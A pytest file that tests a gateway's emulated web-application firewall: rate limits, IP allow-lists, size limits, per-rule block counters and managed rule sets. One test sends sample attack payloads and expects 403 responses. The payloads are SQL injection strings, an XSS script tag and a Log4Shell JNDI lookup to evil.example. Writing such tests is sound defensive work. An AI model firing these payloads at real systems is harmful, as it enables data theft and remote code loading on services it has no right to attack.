"""`app.firewall(...)` in front of the gateway over real HTTP: evaluated before routing and
before the authorizer, a blocked request answered 403 naming the rule with nothing stored,
counters per rule (`/_sluiceway/firewall`, `sluiceway firewall`)."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner

from conftest import EngineFactory
from sluiceway import App, DeclarationError
from sluiceway.cli import main
from sluiceway.core.clock import VirtualClock
from sluiceway.firewall import Rule, ip_set, managed, rate_limit, size_limit
from sluiceway.local import LocalEngine
from support import gateway

ORDER = {"ClientID": "DemoClient", "QRCode": "vwWT)Np=+6-vGzTiopED", "name": "O'Brien"}


def guarded_app(*rules: Rule, default: str = "allow") -> App:
    app = App("guarded")
    pool = app.user_pool("devices")
    pool.resource_server("devices", scopes={"send": "post messages"})
    inbox = app.queue("inbox")
    app.route("POST", "/messages", to=inbox, auth=pool.requires("devices/send"))
    app.route("POST", "/open", to=inbox)
    app.firewall(list(rules), default=default)
    return app


def queued(engine: LocalEngine) -> int:
    return int(engine.store.query("SELECT COUNT(*) AS n FROM messages")[0]["n"])


@pytest.fixture
def served(make_engine: EngineFactory) -> Iterator[tuple[LocalEngine, str]]:
    engine = make_engine(
        guarded_app(
            Rule("per-ip", 0, "block", rate_limit(10, window=60)),
            Rule("common", 10, "block", managed("AWSManagedRulesCommonRuleSet")),
            Rule("sqli", 20, "block", managed("AWSManagedRulesSQLiRuleSet")),
            Rule("bad-inputs", 30, "block", managed("AWSManagedRulesKnownBadInputsRuleSet")),
        )
    )
    with gateway(engine) as url:
        yield engine, url


def test_a_clean_request_passes_to_the_route(served: tuple[LocalEngine, str]) -> None:
    engine, url = served
    answer = httpx.post(f"{url}/open", json=ORDER, timeout=10)
    assert answer.status_code == 200, answer.text
    assert queued(engine) == 1


@pytest.mark.parametrize(
    ("request_args", "rule"),
    [
        ({"json": {"q": "1' OR '1'='1' --"}}, "sqli:SQLi_BODY"),
        ({"params": {"id": "1 UNION SELECT password FROM users"}}, "sqli:SQLi_QUERYARGUMENTS"),
        ({"json": {"note": "<script>alert(1)</script>"}}, "common:CrossSiteScripting_BODY"),
        ({"json": {"x": "${jndi:ldap://evil.example/a}"}}, "bad-inputs:Log4JRCE_BODY"),
        (
            {"content": b"x" * 9000, "headers": {"content-type": "text/plain"}},
            "common:SizeRestrictions_BODY",
        ),
        ({"json": ORDER, "headers": {"user-agent": ""}}, "common:NoUserAgent_HEADER"),
    ],
    ids=["sqli-body", "sqli-query", "xss", "log4shell", "oversize", "no-user-agent"],
)
def test_an_attack_is_blocked_before_the_route_with_403_naming_the_rule(
    served: tuple[LocalEngine, str], request_args: dict[str, object], rule: str
) -> None:
    engine, url = served
    answer = httpx.post(f"{url}/open", timeout=10, **request_args)  # type: ignore[arg-type]
    assert answer.status_code == 403, answer.text
    assert answer.json() == {
        "message": f"Forbidden: blocked by firewall rule {rule}",
        "code": "FirewallBlocked",
        "rule": rule,
    }
    assert answer.headers["content-type"] == "application/json"
    assert queued(engine) == 0


def test_the_firewall_runs_before_the_authorizer(served: tuple[LocalEngine, str]) -> None:
    engine, url = served
    # No token at all: the firewall answers first, so the attack is a 403, not a 401.
    attack = httpx.post(f"{url}/messages", json={"q": "' OR 1=1 --"}, timeout=10)
    assert attack.status_code == 403
    assert attack.json()["rule"] == "sqli:SQLi_BODY"
    clean = httpx.post(f"{url}/messages", json=ORDER, timeout=10)
    assert clean.status_code == 401
    assert queued(engine) == 0


def test_over_the_rate_limit_requests_are_blocked_until_the_window_passes(
    served: tuple[LocalEngine, str], clock: VirtualClock
) -> None:
    engine, url = served
    statuses = [httpx.post(f"{url}/open", json=ORDER, timeout=10).status_code for _ in range(12)]
    assert statuses == [200] * 10 + [403] * 2
    blocked = httpx.post(f"{url}/open", json=ORDER, timeout=10)
    assert blocked.json()["rule"] == "per-ip"
    assert queued(engine) == 10
    clock.advance(61)
    assert httpx.post(f"{url}/open", json=ORDER, timeout=10).status_code == 200


def test_counters_per_rule_over_http_and_from_the_cli(
    served: tuple[LocalEngine, str], data_dir: Path
) -> None:
    _, url = served
    httpx.post(f"{url}/open", json=ORDER, timeout=10)
    httpx.post(f"{url}/open", json={"q": "' OR 1=1 --"}, timeout=10)
    state = httpx.get(f"{url}/_sluiceway/firewall", timeout=10).json()
    assert state["rules"]["sqli:SQLi_BODY"]["blocked"] == 1
    assert state["rules"]["Default_Action"]["allowed"] == 1
    assert state["tracked_keys"] == {"per-ip": 1}
    # The CLI finds the runtime through runtime.json, as `sluiceway run` writes it.
    (data_dir / "runtime.json").write_text(json.dumps({"pid": 1, "url": url, "app": "guarded"}))
    shown = CliRunner().invoke(main, ["firewall", "--data-dir", str(data_dir)])
    assert shown.exit_code == 0, shown.output
    line = next(line for line in shown.output.splitlines() if line.startswith("sqli:SQLi_BODY"))
    assert line.split() == ["sqli:SQLi_BODY", "0", "1", "0"]


def test_runtime_pages_and_the_token_endpoint_are_not_behind_the_firewall(
    make_engine: EngineFactory,
) -> None:
    engine = make_engine(guarded_app(default="block"))
    with gateway(engine) as url:
        assert httpx.post(f"{url}/open", json=ORDER, timeout=10).status_code == 403
        assert httpx.get(f"{url}/_sluiceway/health", timeout=10).status_code == 200
        assert httpx.get(f"{url}/.well-known/jwks.json", timeout=10).status_code == 200


def test_an_ip_set_allows_an_office_and_a_default_block_refuses_the_rest(
    make_engine: EngineFactory,
) -> None:
    engine = make_engine(
        guarded_app(Rule("office", 0, "allow", ip_set(["127.0.0.0/8"])), default="block")
    )
    with gateway(engine) as url:
        assert httpx.post(f"{url}/open", json=ORDER, timeout=10).status_code == 200
    other = make_engine(
        guarded_app(Rule("office", 0, "allow", ip_set(["203.0.113.0/24"])), default="block"),
        data_dir=engine.settings.data_dir.parent / "other",
    )
    with gateway(other) as url:
        answer = httpx.post(f"{url}/open", json=ORDER, timeout=10)
        assert answer.status_code == 403
        assert answer.json()["rule"] == "Default_Action"


def test_a_size_limit_refuses_a_long_query_with_nothing_stored(
    make_engine: EngineFactory,
) -> None:
    engine = make_engine(guarded_app(Rule("short-query", 0, "block", size_limit("query", 64))))
    with gateway(engine) as url:
        answer = httpx.post(f"{url}/open", params={"q": "x" * 100}, json=ORDER, timeout=10)
        assert answer.status_code == 403
        assert answer.json()["rule"] == "short-query"
    assert queued(engine) == 0


def test_a_firewall_is_declared_once_with_valid_rules() -> None:
    app = guarded_app()
    with pytest.raises(DeclarationError, match="declared twice"):
        app.firewall([])
    with pytest.raises(DeclarationError, match="default"):
        App("x").firewall([], default="count")
